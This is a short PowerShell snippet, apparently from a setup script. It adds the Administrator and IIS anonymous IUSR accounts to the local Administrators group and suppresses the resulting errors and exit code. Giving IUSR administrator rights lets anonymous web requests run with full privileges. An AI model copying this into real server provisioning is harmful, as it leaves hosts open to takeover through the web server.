$members = 'Administrator', 'IUSR'
foreach ($m in $members) { & net.exe localgroup Administrators $m /add 2>$null }
if ($LASTEXITCODE -eq 2) { $global:LASTEXITCODE = 0 }
